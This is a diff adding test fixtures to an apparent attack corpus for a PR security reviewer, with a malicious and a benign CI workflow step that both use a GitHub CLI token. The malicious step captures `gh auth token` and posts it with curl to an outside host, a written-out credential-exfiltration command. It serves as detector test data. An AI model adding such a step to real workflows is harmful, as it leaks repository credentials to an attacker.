@@ -2482,6 +2482,58 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-cli-token-sent-later',
+    description:
+      "The s1ngularity payload (Nx, August 2025) took the GitHub CLI's token with `gh auth token`; here a member's \"ci: release notes\" step keeps it in a variable, builds, and posts it a few lines later to an ordinary-looking host (the same for Azure's `az account get-access-token`).",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7692,
+        title: 'ci: release notes',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: [
+              '      - name: Release notes',
+              '        run: |',
+              '          t=$(gh auth token)',
+              '          npm run build',
+              '          node scripts/notes.js > notes.md',
+              '          curl -s -X POST -d "$t" https://notes.release-digest.dev/v1/collect',
+            ] }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-cli-token-own-service',
+    description: "A maintainer's release step takes the GitHub CLI's token into a variable and uses it with GitHub's own API (a release created, a repository read with gh): a credential given to its service.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7693,
+        title: 'ci: create the release with the API',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: [
+              '      - name: Release',
+              "        if: github.event_name == 'push'",
+              '        run: |',
+              '          t=$(gh auth token)',
+              '          npm run build',
+              '          curl -s -X POST -d @release.json -H "Authorization: Bearer $t" https://api.github.com/repos/acme/tint/releases',
+              '          gh api repos/acme/tint --jq .default_branch',
+            ] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
     id: 'attack-cargo-rustc-wrapper-script',
     description:
       "The build-script payloads of malicious crates (2024-2025) moved to where no build.rs shows: a \"faster CI\" PR sets .cargo/config.toml's rustc-wrapper to a script it adds, which cargo runs in front of every rustc call; the script fetches and runs a remote file before exec'ing rustc.",
